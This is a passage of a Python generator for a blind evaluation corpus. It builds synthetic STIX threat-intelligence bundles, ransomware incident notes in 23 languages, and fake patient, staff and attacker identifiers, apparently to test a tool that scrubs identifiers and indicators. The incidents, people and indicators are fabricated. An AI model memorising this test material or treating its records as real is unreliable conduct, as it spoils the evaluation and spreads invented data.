    for _ in range(w.rng.randint(2, 4)):
        k = w.rng.random()
        if k < 0.4:
            v, pat = w.aip(), "ipv4-addr:value"
        elif k < 0.7:
            v, pat = w.adom(), "domain-name:value"
        else:
            v, pat = X(ind.sha256(w.rng).lower(), "SHA256"), "file:hashes.'SHA-256'"
        objs.append(OBJ(("type", "indicator"), ("spec_version", "2.1"), ("id", "indicator--" + uid(w)), ("created", N(w.ts().replace("Z", ".000Z"), "STIX_TIME")),
                        ("pattern", STR("[" + pat + " = '", v, "']")), ("pattern_type", "stix"), ("valid_from", N(w.ts(), "STIX_TIME"))))
    objs.append(OBJ(("type", "malware"), ("spec_version", "2.1"), ("id", "malware--" + uid(w)), ("name", w.ransom()), ("is_family", True)))
    objs.append(OBJ(("type", "user-account"), ("spec_version", "2.1"), ("id", "user-account--" + uid(w)), ("user_id", I(f"{w.ad}\\{p.user}", "USER")), ("display_name", I(p.full, "NAME"))))
    objs.append(OBJ(("type", "ipv4-addr"), ("spec_version", "2.1"), ("id", "ipv4-addr--" + uid(w)), ("value", I(w.pip(), "IP"))))
    objs.append(OBJ(("type", "x-observed-host"), ("spec_version", "2.1"), ("id", "x-observed-host--" + uid(w)), ("hostname", I(w.host(), "HOSTNAME"))))
    objs.append(OBJ(("type", "attack-pattern"), ("spec_version", "2.1"), ("id", "attack-pattern--" + uid(w)), ("name", "Phishing"),
                    ("external_references", [OBJ(("source_name", "mitre-attack"), ("external_id", w.mitre()))])))
    objs.append(OBJ(("type", "sighting"), ("spec_version", "2.1"), ("id", "sighting--" + uid(w)), ("sighting_of_ref", "indicator--" + uid(w)), ("where_sighted_refs", [ident]),
                    ("description", STR("seen on ", I(w.host(), "HOSTNAME"), " used by ", I(p.full, "NAME"), " (", I(p.email, "EMAIL"), ")"))))
    jobj(d, [("type", "bundle"), ("id", "bundle--" + uid(w)), ("objects", objs)], indent=indent)


def st_isac_stix(w):
    d = Doc()
    a = w.person()
    d.t("Submission to sector ISAC sharing portal\nSubmitter: ").put(nm(a)).t(" <").put(nm(a, "email")).t(">, ").put(O(w)).t("\nTLP:AMBER+STRICT\n\nAttached bundle:\n")
    stix_bundle(w, d, 2)
    d.t("\n")
    return d


def st_ir_handoff(w):
    d = Doc()
    jobj(d, [("handoff_version", "1.3"), ("engagement", f"IR-{w.rng.randint(2026000, 2026999)}"), ("client_contact", I(w.person().full, "NAME")), ("client_org", O(w))])
    d.t("\n---- stix (minified) ----\n")
    stix_bundle(w, d, None)
    d.t("\n")
    return d


# --------------------------------------------------------------------------- notes in twenty-three languages
LANG = {
    "ht": "Rapò ensidan: jodi a {date}, {staff} wè yon mesaj sou òdinatè {host} ki di tout fichye yo kode pa {gang}. Itilizatè a se {user}. Nou dekonekte rezo a. Yon pasyan, {pname} (ne {dob}), te gen dosye li ouvri sou ekran an. Adrès IP atakè a: {aip}. Rele {staff2} nan {phone} si gen nouvèl.",
    "to": "Lipooti ʻo e palopalema: ʻi he ʻaho {date} naʻe maʻu ʻe {staff} ha ʻīmeili kākā mei he {amail}. Naʻe lomiʻi ʻe he ʻakauni {user} ʻa e link pea naʻe hū mai ʻa {gang} ki he komipiuta {host}. Ko e faile ʻo e mahaki ko {pname}, naʻe fanauʻi {dob}, naʻe ʻi ai. Fetuʻutaki ki he {phone}.",
    "fj": "Ripote ni leqa: ena {date}, a raica o {staff} ni sa lako e dua na itukutuku vakaloloma ena kompiuta {host} (vakayagataki ko {user}). E tiko kina na faile i {pname}, sucu ena {dob}, mai {city}. Na IP ni dauvakacaca: {aip}. Qiri vei {staff2} ena {phone}.",
    "ny": "Lipoti ya vuto: pa {date}, {staff} adalandira uthenga wachinyengo kuchokera ku {amail}. Kompyuta {host} ya {user} idatsekedwa ndi {gang}. Mafayilo a wodwala {pname}, wobadwa pa {dob}, wochokera ku {city}, adali pamenepo. IP ya wakuba: {aip}. Imbani {staff2} pa {phone}.",
    "tn": "Pego ya kotsi: ka {date}, {staff} o bone molaetsa wa bofora mo khomputareng {host} (modirisi {user}). Ditshedimosetso tsa molwetse {pname}, o tsholetswe ka {dob}, wa kwa {city}, di ne di le teng. Aterese ya IP ya motlhaselo: {aip}. Leletsa {staff2} mo {phone}.",
    "wo": "Rapoor: ci {date}, {staff} gis na benn bataaxal bu nax ci {amail}. Ordinatëer {host} bu {user} dafa jàpp {gang}. Dosiyeu feebar bi {pname}, juddu {dob}, dëkk {city}, nekkoon na fa. IP bu ñu song: {aip}. Wooteel {staff2} ci {phone}.",
    "tt": "Инцидент турында хәбәр: {date} көнне {staff} {host} компьютерында шифрлау турында язу күрде, {gang}. Кулланучы: {user}. Пациент {pname} ({dob} елда туган, {city}) мәгълүматлары экранда иде. Һөҗүм IP адресы: {aip}. {staff2} белән {phone} аша элемтәгә керегез.",
    "tk": "Hadysa barada hasabat: {date} senesinde {staff} {host} kompýuterinde {gang} tarapyndan şifrlenen faýllary gördi. Ulanyjy: {user}. Näsag {pname} ({dob} doglan, {city}) maglumatlary açykdy. Hüjümçiniň IP salgysy: {aip}. {staff2} bilen {phone} arkaly habarlaşyň.",
    "dv": "ހާދިސާގެ ރިޕޯޓް: {date} ގައި {staff} ދުށީ {host} ކޮމްޕިއުޓަރުގައި {gang} ގެ މެސެޖެއް. ޔޫޒަރ: {user}. ބަލިމީހާ {pname} (އުފަން ތާރީޚް {dob}، {city}) ގެ ފައިލް ހުޅުވިފައި. އެޓޭކަރުގެ IP: {aip}. {staff2} އަށް {phone} ގައި ގުޅުއްވާ.",
    "as": "ঘটনাৰ প্ৰতিবেদন: {date} তাৰিখে {staff}-এ {host} কম্পিউটাৰত {gang}-ৰ বাৰ্তা দেখিলে। ব্যৱহাৰকাৰী: {user}। ৰোগী {pname} (জন্ম {dob}, {city})-ৰ নথি খোলা আছিল। আক্ৰমণকাৰীৰ IP: {aip}। {staff2}-ক {phone}-ত ফোন কৰক।",
    "or": "ଘଟଣା ରିପୋର୍ଟ: {date} ରେ {staff} {host} କମ୍ପ୍ୟୁଟରରେ {gang} ସନ୍ଦେଶ ଦେଖିଲେ। ବ୍ୟବହାରକାରୀ: {user}। ରୋଗୀ {pname} (ଜନ୍ମ {dob}, {city}) ଙ୍କ ଫାଇଲ ଖୋଲା ଥିଲା। ଆକ୍ରମଣକାରୀ IP: {aip}। {staff2} ଙ୍କୁ {phone} ରେ ଫୋନ କରନ୍ତୁ।",
    "kmr": "Rapora bûyerê: di {date} de {staff} li ser komputera {host} peyameke {gang} dît. Bikarhêner: {user}. Dosyaya nexweş {pname} (jidayikbûn {dob}, ji {city}) vekirî bû. IP-ya êrîşkar: {aip}. Ji {staff2} re li {phone} telefon bikin.",
    "ckb": "ڕاپۆرتی ڕووداو: لە {date} {staff} لەسەر کۆمپیوتەری {host} پەیامێکی {gang}ی بینی. بەکارهێنەر: {user}. فایلی نەخۆش {pname} (لەدایکبوون {dob}، {city}) کراوە بوو. IP ی هێرشبەر: {aip}. پەیوەندی بە {staff2} بکەن لە {phone}.",
    "gd": "Aithisg tachartais: air {date} chunnaic {staff} teachdaireachd bho {gang} air a' choimpiutair {host}. Cleachdaiche: {user}. Bha faidhle an euslaintich {pname} (rugadh {dob}, à {city}) fosgailte. IP an ionnsaigheir: {aip}. Cuir fòn gu {staff2} air {phone}.",
    "yi": "באַריכט וועגן אינצידענט: דעם {date} האָט {staff} געזען אַ {gang} מעלדונג אויף קאָמפּיוטער {host}. באַניצער: {user}. די טעקע פֿון פּאַציענט {pname} (געבוירן {dob}, {city}) איז געווען אָפֿן. IP פֿון אַטאַקירער: {aip}. רופֿט {staff2} אויף {phone}.",
    "oc": "Rapòrt d'incident: lo {date}, {staff} vegèt un messatge de {gang} sus l'ordenador {host}. Utilizaire: {user}. Lo dorsièr del pacient {pname} (nascut lo {dob}, de {city}) èra dobèrt. IP de l'atacaire: {aip}. Sonatz {staff2} al {phone}.",
    "gn": "Marandu ojehuva'ekue: {date} jave {staff} ohecha peteĩ marandu {gang} mba'e computadora {host}-pe. Puruhára: {user}. Hasýva {pname} (onase {dob}, {city}) kuatia ojeavri'akue. IP ombyaiva: {aip}. Ehenói {staff2} {phone}-pe.",
    "tw": "Amanneɛ a ɛfa asɛm no ho: {date} no, {staff} huu {gang} nkra wɔ kɔmputa {host} so. Ɔdefoɔ: {user}. Ɔyarefoɔ {pname} (wɔwoo no {dob}, ɔfiri {city}) fael no abue. Ɔtowhyɛfoɔ IP: {aip}. Frɛ {staff2} wɔ {phone}.",
    "tpi": "Ripot long hevi: long {date}, {staff} i lukim tok bilong {gang} long kompiuta {host}. Yusa: {user}. Fail bilong sikman {pname} (bon long {dob}, bilong {city}) i op. IP bilong ol hakka: {aip}. Ringim {staff2} long {phone}.",
    "haw": "Hōʻike pilikia: ma ka lā {date}, ua ʻike ʻo {staff} i ka memo a {gang} ma ke kamepiula {host}. Mea hoʻohana: {user}. Ua wehe ʻia ka waihona o ka mea maʻi {pname} (hānau ʻia {dob}, mai {city}). IP o ka mea hoʻouka: {aip}. E kelepona iā {staff2} ma {phone}.",
    "ilo": "Report ti pasamak: idi {date}, nakita ni {staff} ti mensahe ti {gang} iti kompiuter {host}. User: {user}. Nakalukat ti file ti pasiente a ni {pname} (nayanak idi {dob}, taga-{city}). IP ti nangraut: {aip}. Tawagan ni {staff2} iti {phone}.",
    "ln": "Lapolo ya likama: na {date}, {staff} amonaki nsango ya {gang} na ordinatere {host}. Mosaleli: {user}. Dosie ya mobeli {pname} (abotama {dob}, ya {city}) ezalaki polele. IP ya moyibi: {aip}. Benga {staff2} na {phone}.",
    "ch": "Ripot put i inisidente: gi {date}, si {staff} ha li'e' i mensahi {gang} gi computer {host}. Usuario: {user}. Bibierto i file i malångu {pname} (mafañågu {dob}, taotao {city}). IP i ataka: {aip}. Ågang si {staff2} gi {phone}.",
}
LANG_NAMES = {"ht": "Haitian Creole", "to": "Tongan", "fj": "Fijian", "ny": "Chichewa", "tn": "Tswana", "wo": "Wolof", "tt": "Tatar", "tk": "Turkmen", "dv": "Dhivehi",
              "as": "Assamese", "or": "Odia", "kmr": "Kurdish (Kurmanji)", "ckb": "Kurdish (Sorani)", "gd": "Scottish Gaelic", "yi": "Yiddish", "oc": "Occitan",
              "gn": "Guarani", "tw": "Twi", "tpi": "Tok Pisin", "haw": "Hawaiian", "ilo": "Ilocano", "ln": "Lingala", "ch": "Chamorro"}
HEAD = {
    "outstation-radio-log": lambda w, d: d.t("HF RADIO TRAFFIC — ").put(O(w)).t(" — msg ").t(str(w.rng.randint(10, 99))).t("/").t(str(w.rng.randint(100, 999))).t("\nFROM OUTSTATION  TO BASE  ").put(N(f"{w.rng.randint(0, 23):02d}{w.rng.randint(0, 59):02d}Z", "TIME")).t("\n\n"),
    "chw-sms-report": lambda w, d: d.t("SMS report forwarded to ").put(I(f"it@{w.domain}", "EMAIL")).t("\nfrom ").put(I(w.phone(), "PHONE")).t("\n----\n"),
    "district-it-memo": lambda w, d: d.t("MEMO / ").put(O(w)).t("\nRef: IT-").t(str(w.rng.randint(1000, 9999))).t("\n\n"),
    "ward-logbook-transcript": lambda w, d: d.t("[transcribed from handwritten logbook, p. ").t(str(w.rng.randint(2, 90))).t("]\n\n"),
}


def lang_doc(w, style):
    lg = w.lang
    d = Doc()
    HEAD[style](w, d)
    staff, staff2 = w.person(lg), w.person(lg)
    p = w.person(lg)
    tl = LANG[lg]
    d.fill(tl, date=N(w.d(w.recent(), 0), "DATE_NEUTRAL") if False else I(w.d(w.recent(), w.rng.choice([0, 2, 4]), lg), "DATE") if False else N(w.d(w.recent(), 2), "DATE_NEUTRAL"),
           staff=nm(staff), staff2=nm(staff2, "first"), host=I(w.host(), "HOSTNAME"), user=I(f"{w.ad}\\{staff.user}" if w.rng.random() < 0.5 else staff.user, "USER"),
           gang=w.ransom(), pname=nm(p), dob=I(w.d(w.dob(), w.rng.choice([2, 3, 4]), lg), "DATE"), city=I(w.rng.choice(w.cities), "CITY"), aip=w.aip(),
           phone=I(w.phone(), "PHONE"), amail=w.amail())
    d.t("\n")
    if w.rng.random() < 0.6:
        d.t("\n-- ").put(nm(staff, "init")).t(", ").put(I(w.pip(), "IP")).t(" / ").put(w.hash()).t("\n")
    return d


# --------------------------------------------------------------------------- main
STYLES = [
    ("umbrella-dns-csv", st_umbrella), ("mimecast-ttp-url-log", st_mimecast), ("abnormal-case-json", st_abnormal), ("epo-threat-events-tsv", st_epo),
    ("sep-risk-log", st_sep), ("secret-server-audit-csv", st_secretserver), ("password-manager-events-jsonl", st_pwmanager), ("ringcentral-call-log-csv", st_ringcentral),
    ("tomcat-access-catalina", st_tomcat), ("mysql-general-log", st_mysql), ("mongodb-json-log", st_mongodb), ("elasticsearch-audit-json", st_es_audit),
    ("sumo-logic-export-csv", st_sumo), ("aws-waf-json", st_awswaf), ("s3-server-access-log", st_s3access), ("azure-nsg-flow-json", st_nsgflow),
    ("caddy-access-json", st_caddy), ("task-scheduler-history", st_taskhistory), ("powershell-4104-text", st_ps4104), ("wmi-persistence-dump", st_wmi),
    ("lolbin-triage-note", st_lolbin), ("rogue-ap-survey-csv", st_rogueap), ("supplier-bank-change-fraud", st_bankchange),
    ("discord-export", st_discord), ("mastodon-thread", st_mastodon), ("reddit-help-post", st_reddit), ("darkweb-sale-post", st_darkweb), ("paste-combo-leak", st_paste),
    ("news-article", st_news), ("press-release", st_press), ("podcast-transcript", st_podcast), ("court-complaint-excerpt", st_court), ("ombudsman-complaint", st_ombudsman),
    ("insurer-claim-narrative", st_claim), ("patient-grievance-letter", st_grievance), ("locum-agreement", st_locum), ("oncall-swap-sms", st_oncall),
    ("ambulance-cad-export", st_cad), ("poison-centre-call-note", st_poison), ("travel-vaccination-record", st_travelvax), ("vet-clinic-crossover", st_vet),
    ("dental-imaging-export-ini", st_dentalimg), ("optometry-recall-list", st_optometry), ("hearing-aid-fitting-log", st_hearing), ("sleep-study-report", st_sleep),
    ("blood-donor-deferral-letter", st_donor), ("medwatch-3500-draft", st_medwatch), ("vaers-like-report", st_vaers), ("death-certificate-worksheet", st_deathcert),
    ("autopsy-request", st_autopsy), ("irb-deviation-report", st_irb), ("ltc-census-export-csv", st_ltccensus), ("pm-appointment-export-tsv", st_pmappt),
    ("isac-submission-stix", st_isac_stix), ("ir-handoff-json-stix", st_ir_handoff),
]
LANG_STYLES = list(HEAD)


def noisy(w, d):
    """Light mess: trailing blanks, CRLF in some, a truncated last line marker (outside spans)."""
    r = w.rng
    if r.random() < 0.2:
        d.t("  \n\n")
    if r.random() < 0.15:
        d.t("[...truncated]")
    return d


OCR_STYLES = {"death-certificate-worksheet", "blood-donor-deferral-letter", "autopsy-request", "ward-logbook-transcript", "travel-vaccination-record"}
OCR_MAP = {"l": "1", "O": "0", "e": "c", "S": "5", "i": "í", "m": "rn", "B": "8"}


def ocr(w, d):
    """OCR noise on some documents: a few characters swapped in plain text and in identifiers
    (the gold span is the noisy text as it stands); indicators are left intact."""
    r = w.rng
    out = []
    for text, cat, typ in d.seg:
        if cat != spandoc.IND and r.random() < 0.5:
            chars = list(text)
            for i, c in enumerate(chars):
                if c in OCR_MAP and r.random() < 0.06:
                    chars[i] = OCR_MAP[c]
            text = "".join(chars)
        out.append((text, cat, typ))
    d.seg = out
    return d


def build():
    from faker import Faker
    rng = random.Random(SEED)
    fk = {}
    for i, loc in enumerate(FAKER_LOCALES):
        f = Faker(loc)
        f.seed_instance(SEED + i)
        fk[loc] = f
    plan = []
    for name, fn in STYLES:
        for _ in range(6):
            plan.append((name, fn, None))
    langs = list(LANG)
    for lg in langs:
        for k in range(3):
            plan.append((LANG_STYLES[(langs.index(lg) + k) % len(LANG_STYLES)], lang_doc, lg))
    rng.shuffle(plan)
    recs = []
    for n, (name, fn, lg) in enumerate(plan, 1):
        if lg:
            org = rng.choice([o for o in ORGS if o[5] == lg])
        else:
            org = rng.choice(ORGS)
        w = World(rng, org, fk)
        d = fn(w, name) if lg else fn(w)
        noisy(w, d)
        if name in OCR_STYLES and rng.random() < 0.6:
            ocr(w, d)
        loc = f"{LANG_NAMES[lg]} ({org[4]})" if lg else f"{org[5]}-{org[4]}"
        recs.append(record(f"blind13-{n:04d}", d, name, loc, w.orginfo()))
    return recs


def verify(recs):
    for r in recs:
        t = r["text"]
        for key in ("identifiers", "indicators", "neutral"):
            sp = sorted((s["start"], s["end"]) for s in r.get(key, []))
            for (a, b), (c, e) in zip(sp, sp[1:]):
                assert b <= c, (r["id"], key, "overlap")
            for a, b in sp:
                assert 0 <= a < b <= len(t), (r["id"], key)
        ids = [(s["start"], s["end"]) for s in r["identifiers"]]
        for s in r["indicators"]:
            for a, b in ids:
                assert s["end"] <= a or b <= s["start"], (r["id"], "id/ind overlap")


def main():
    recs = build()
    verify(recs)
    if "--check" in sys.argv:
        blob = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in recs).encode()
        with open(OUT, "rb") as f:
            ok = f.read() == blob
        print("blind13: matches" if ok else "blind13: DIFFERS")
        sys.exit(0 if ok else 1)
    os.makedirs(os.path.dirname(OUT), exist_ok=True)
    sha = write_corpus(OUT, recs)
    manifest(MAN, "blind13 — sixteenth evaluation corpus (blind)", "blind13/blind13.jsonl", SEED, "gen/gen_blind13.py", recs,
             "Written blind: without opening the scrubber, its results, score.py, the other generators or the other corpora. "
             "Run it only once, at the end of a session, by the lead (see README.md). No corpus text here: counts only.")
    print(len(recs), "documents", sha)


if __name__ == "__main__":
    main()
